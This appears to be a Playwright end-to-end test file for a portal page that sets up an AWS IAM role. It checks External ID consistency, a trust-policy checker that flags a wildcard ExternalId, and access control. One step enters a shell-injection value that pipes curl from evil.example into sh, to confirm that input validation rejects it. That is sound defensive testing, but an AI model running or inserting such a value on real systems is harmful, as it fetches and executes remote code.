import { readFileSync } from "node:fs";
import { expect, test } from "#e2e/support/portal-test.ts";
import { ConnectPage } from "#stack/browser/connect-page.ts";

const METHODS = ["Quick create", "Template", "Terraform", "AWS CLI", "AWS console"] as const;
const PARTNER = "arn:aws:iam::999999999999:root";
const ANY_ID = {
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Allow",
      Principal: { AWS: PARTNER },
      Action: "sts:AssumeRole",
      Condition: { StringLike: { "sts:ExternalId": "*" } },
    },
  ],
};

test("every method to create the role has the same External ID, and none executes text that a person typed", async ({
  as,
  customer,
  sandbox,
}) => {
  const page = await as(customer.owner);
  const connect = await ConnectPage.open(page);
  const id = await connect.externalId();
  const tab = (name: string) => page.getByRole("tab", { name, exact: true });
  const panel = page.getByRole("tabpanel").filter({ visible: true });
  const prefix = panel.getByRole("textbox", { name: "Log groups starting with", exact: true });

  await test.step("the quick-create link, which sends no referrer", async () => {
    expect(await connect.quickCreateLink()).toContain(`param_ExternalId=${id}`);
    const link = page.getByRole("link", { name: "Create the role in AWS", exact: true });
    await expect(link).toHaveAttribute("rel", "noreferrer");
  });
  for (const method of METHODS.slice(1)) {
    await test.step(method, async () => {
      await tab(method).click();
      await expect(panel.getByText(id).first()).toBeVisible();
      await expect(prefix).toHaveValue("/");
    });
  }

  await test.step("the downloaded template is identical to the published one", async () => {
    await tab("Template").click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      panel.getByRole("link", { name: "Download template", exact: true }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("sallyport-role.json");
    const link = new URL((await panel.getByRole("link", { name: /^the published template/ }).getAttribute("href")) ?? "");
    expect(readFileSync(await download.path(), "utf8")).toBe(await (await fetch(link)).text());
  });

  await test.step("all tabs share the settings, and a field rejects text that a shell would execute", async () => {
    await tab("AWS CLI").click();
    const commands = panel.getByRole("region", { name: "Commands", exact: true });
    await prefix.fill("/app/");
    await expect(commands).toContainText("log-group:/app/*");
    await prefix.fill("/app/'; curl evil.example | sh; '");
    await expect(commands).toHaveCount(0);
    await expect(panel.getByText("One of the settings above isn’t valid")).toBeVisible();
    await tab("Terraform").click();
    await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toHaveCount(0);
    await prefix.fill("/app/");
    await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toContainText("log-group:/app/*");
  });

  await test.step("a role with that name and the shown trust policy connects", async () => {
    await tab("AWS console").click();
    const trust = panel.getByRole("region", { name: "Trust policy", exact: true });
    expect(JSON.parse((await trust.textContent()) ?? "")).toMatchObject({ Version: "2012-10-17" });
    await expect(panel.getByText(/^Name the role sallyport-[a-z2-7]{12}\./)).toBeVisible();
    await tab("Quick create").click();
    const role = await sandbox.createStack(await connect.quickCreateLink(), "222222222222");
    await connect.verify(role.arn);
    await expect(connect.result).toHaveText(/^Connected/);
  });
});

test("the doctor names the weakness of a pasted policy and corrects it, before a verification and after one that failed", async ({
  as,
  customer,
  sandbox,
}) => {
  const page = await as(customer.owner);
  const connect = await ConnectPage.open(page);
  const id = await connect.externalId();
  const link = await connect.quickCreateLink();
  const field = page.getByRole("textbox", { name: "Trust policy", exact: true });
  const found = page.getByRole("list", { name: "Findings", exact: true }).getByRole("listitem");
  const copy = page.getByRole("button", { name: "Copy corrected policy", exact: true });
  const corrected = page.getByRole("region", { name: "Corrected trust policy", exact: true });

  await test.step("before", async () => {
    await page.getByRole("tab", { name: "AWS console", exact: true }).click();
    await page.getByRole("button", { name: "Check your trust policy before you verify", exact: true }).click();
    await field.fill(JSON.stringify(ANY_ID, null, 2));
    await expect(found.first()).toContainText("Line 12");
    await expect(found.first()).toContainText('"sts:ExternalId": "*"');
    const correction = page.getByRole("region", { name: "Correction of the pasted policy", exact: true });
    await expect(correction).toContainText(`"sts:ExternalId": "${id}"`);
    await expect(page.getByRole("button", { name: "Copy correction of the pasted policy", exact: true })).toBeVisible();
  });

  const role = await sandbox.createStack(link, "222222222222");
  await sandbox.setTrustPolicy(role, ANY_ID);
  await connect.verify(role.arn);
  await expect(connect.result).toHaveText(/^Not secure/);

  await test.step("after: the corrected policy is shown at once, and the correction of a pasted policy replaces it", async () => {
    await expect(copy).toHaveCount(1);
    await expect(corrected).toContainText(id);
    const other = { Sid: "Ours", Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };
    await field.fill(JSON.stringify({ ...ANY_ID, Statement: [...ANY_ID.Statement, other] }, null, 2));
    await expect(found.first()).toContainText("Line 12");
    await expect(corrected).toContainText("ec2.amazonaws.com");
    await expect(copy).toHaveCount(1);
  });

  await test.step("the corrected policy connects", async () => {
    await sandbox.setTrustPolicy(role, JSON.parse((await corrected.textContent()) ?? ""));
    await connect.verify(role.arn);
    await expect(connect.result).toHaveText(/^Connected/);
  });
});

test("the page for the security team shows the policies of the saved settings, and does not exist for another customer", async ({
  as,
  customer,
  portalUrl,
}) => {
  const page = await as(customer.owner);
  const connect = await ConnectPage.open(page);
  const id = await connect.externalId();
  const saved = page.waitForResponse((response) => response.request().method() === "POST");
  await page.getByRole("textbox", { name: "Log groups starting with", exact: true }).fill("/aws/lambda/");
  await saved;
  await page.getByRole("link", { name: "For your security team", exact: true }).click();
  await expect(page.getByRole("heading", { name: "For your security team", exact: true })).toBeVisible();
  await expect(page.getByRole("region", { name: "Trust policy", exact: true })).toContainText(`"sts:ExternalId": "${id}"`);
  await expect(page.getByRole("region", { name: "Permissions policy read-logs", exact: true })).toContainText("log-group:/aws/lambda/*");
  await expect(page.getByRole("region", { name: "AssumeRole calls by the portal, last 90 days", exact: true })).toContainText(id);
  await expect(page.getByRole("region", { name: "All activity in the portal’s role sessions", exact: true })).toContainText(
    "sp-[a-z2-7]{20}",
  );

  const member = await as(customer.member, page.url());
  await expect(member.getByRole("heading", { name: "For your security team", exact: true })).toBeVisible();
  const stranger = await as("owner@globex.example", null);
  for (const path of ["review", "template"]) {
    const response = await stranger.goto(`${portalUrl}/connections/${connect.id}/${path}`);
    expect(response?.status()).toBe(404);
  }
});
